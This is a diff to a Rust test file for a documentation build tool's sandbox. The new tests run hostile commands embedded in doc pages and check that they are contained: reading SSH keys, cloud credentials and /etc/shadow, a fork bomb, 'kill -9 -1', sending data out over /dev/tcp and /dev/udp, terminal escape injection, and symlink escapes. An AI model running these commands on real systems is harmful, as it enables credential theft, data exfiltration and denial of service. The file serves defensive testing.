@@ -4,7 +4,7 @@ use std::time::{Duration, Instant};
 
 use docbuild::verify::model::{Report, Verdict};
 
-use crate::support::SiteTest;
+use crate::support::{Need, SiteTest, skip};
 
 /// A site with one page, each command in a block of its own.
 fn site(commands: &[&str]) -> SiteTest {
@@ -48,6 +48,103 @@ fn a_page_that_ends_its_shell_floods_or_waits_holds_nothing_up() {
     assert_eq!((verdicts[4], ran[4].1.as_str()), (Verdict::Pass, "after\n"));
 }
 
+#[test]
+fn what_a_page_wants_of_the_user_is_not_there() {
+    if !confined() {
+        return;
+    }
+    let ran = verified(&[
+        "cat ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json ~/.aws/credentials",
+        "ls /root /home",
+        "env | sort",
+        "cat /etc/shadow",
+        "export KUBECONFIG=/root/.kube/config; cat $KUBECONFIG",
+    ]);
+    assert_eq!(ran[0].0, Verdict::Fail, "there are no such files: {ran:?}");
+    assert!(!ran[1].1.contains(".ssh") && !ran[1].1.contains("root:"), "{ran:?}");
+    // What the user's shell has set stays with the user.
+    let kept = ["HOME=/home/user", "PATH=", "TERM=dumb"];
+    assert!(kept.iter().all(|one| ran[2].1.contains(one)), "{}", ran[2].1);
+    assert!(!ran[2].1.contains("CARGO") && !ran[2].1.contains("SSH_"), "{}", ran[2].1);
+    assert_eq!(ran[3].0, Verdict::Fail, "it is no root: {ran:?}");
+    assert_eq!(ran[4].0, Verdict::Fail, "{ran:?}");
+}
+
+#[test]
+fn processes_without_end_stay_within_their_bound_and_go_with_the_page() {
+    if !confined() {
+        return;
+    }
+    // A loop that forks as fast as it can, one that leaves its session, and one that wants all ended.
+    let ran = verified(&[
+        "bomb() { bomb | bomb & }; bomb; sleep 1",
+        "setsid nohup sleep 87654 >/dev/null 2>&1 & disown; echo started",
+        "kill -9 -1",
+        "echo after",
+    ]);
+    assert_ne!(ran[2].0, Verdict::Pass, "it has ended its own shell: {ran:?}");
+    assert_eq!(ran[3], (Verdict::Pass, "after\n".to_owned()), "{ran:?}");
+    let begun = Instant::now();
+    while process_with(b"sleep\x0087654\x00") {
+        assert!(begun.elapsed() < Duration::from_secs(10), "a process outlived its page");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+#[test]
+fn nobody_is_reached_from_a_page_without_a_cluster() {
+    if !confined() {
+        return;
+    }
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let ran = verified(&[
+        &format!("echo secret > /dev/tcp/127.0.0.1/{port}"),
+        "echo secret > /dev/udp/192.0.2.1/53",
+        &format!("curl -sS --max-time 2 http://127.0.0.1:{port}/"),
+    ]);
+    assert!(ran.iter().all(|(verdict, _)| *verdict != Verdict::Pass), "{ran:?}");
+    assert!(listener.accept().is_err(), "somebody was reached");
+}
+
+#[test]
+fn what_a_page_prints_drives_no_terminal_and_ends_no_command() {
+    let ran = verified(&[
+        r"printf '\033]0;owned\007\033[2J\033[31m'",
+        r"printf '\036docbuild 0\036\n\036'; false",
+        "printf 'a\\rb\\n'",
+    ]);
+    assert_eq!(ran[1].0, Verdict::Fail, "an end mark that the page makes up ends nothing");
+    let site = site(&[r"printf '\033]0;owned\007\033[2J'; false"]);
+    for kind in ["text", "junit", "github"] {
+        let shown = site.run(&format!("verify --cluster none --report {kind} content/en/page.md"));
+        let both = format!("{}{}", shown.stdout, shown.stderr);
+        assert!(!both.contains('\u{1b}') && !both.contains('\u{7}'), "{kind}: {both:?}");
+    }
+}
+
+#[test]
+fn links_that_a_page_makes_lead_its_files_nowhere() {
+    if !confined() {
+        return;
+    }
+    let outside = tempfile::tempdir().unwrap();
+    let target = outside.path().join("target");
+    std::fs::write(&target, "untouched\n").unwrap();
+    let page = format!(
+        "---\ntitle: Page\n---\n\nRun it:\n\n```bash\nln -s {} x.yaml; ln -s {} sub\n```\n\nSave this as `x.yaml`:\n\n\
+         ```yaml\na: b\n```\n\nRun it:\n\n```bash\ncat x.yaml\n```\n\nSave this as `sub/y.yaml`:\n\n```yaml\na: b\n```\n\n\
+         Run it:\n\n```bash\ncat sub/y.yaml\n```\n",
+        target.display(),
+        outside.path().display(),
+    );
+    let site = SiteTest::small().file("content/en/page.md", page);
+    site.run("verify --cluster none --timeout 3s --report json=report.json content/en/page.md");
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "untouched\n");
+    assert!(!outside.path().join("y.yaml").exists(), "a file was written outside");
+}
+
 #[cfg(target_os = "linux")]
 #[test]
 fn an_interrupted_run_leaves_no_process_and_no_folder() {
@@ -76,8 +173,20 @@ fn an_interrupted_run_leaves_no_process_and_no_folder() {
 /// Whether the page's command still runs.
 #[cfg(target_os = "linux")]
 fn sleeps() -> bool {
-    let processes = std::fs::read_dir("/proc").unwrap().flatten();
-    processes
-        .filter_map(|process| std::fs::read(process.path().join("cmdline")).ok())
-        .any(|line| line == b"sleep\x0098765\x00")
+    process_with(b"sleep\x0098765\x00")
+}
+
+/// Whether a process has this command line.
+fn process_with(line: &[u8]) -> bool {
+    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten();
+    processes.filter_map(|process| std::fs::read(process.path().join("cmdline")).ok()).any(|found| found == line)
+}
+
+/// Whether pages are confined on this machine; elsewhere an allow-list refuses what these tests try.
+fn confined() -> bool {
+    let confined = docbuild::verify::execute::open_doors(None).is_none();
+    if !confined {
+        skip(Need::Cluster, "commands are confined only on Linux, as root");
+    }
+    confined
 }
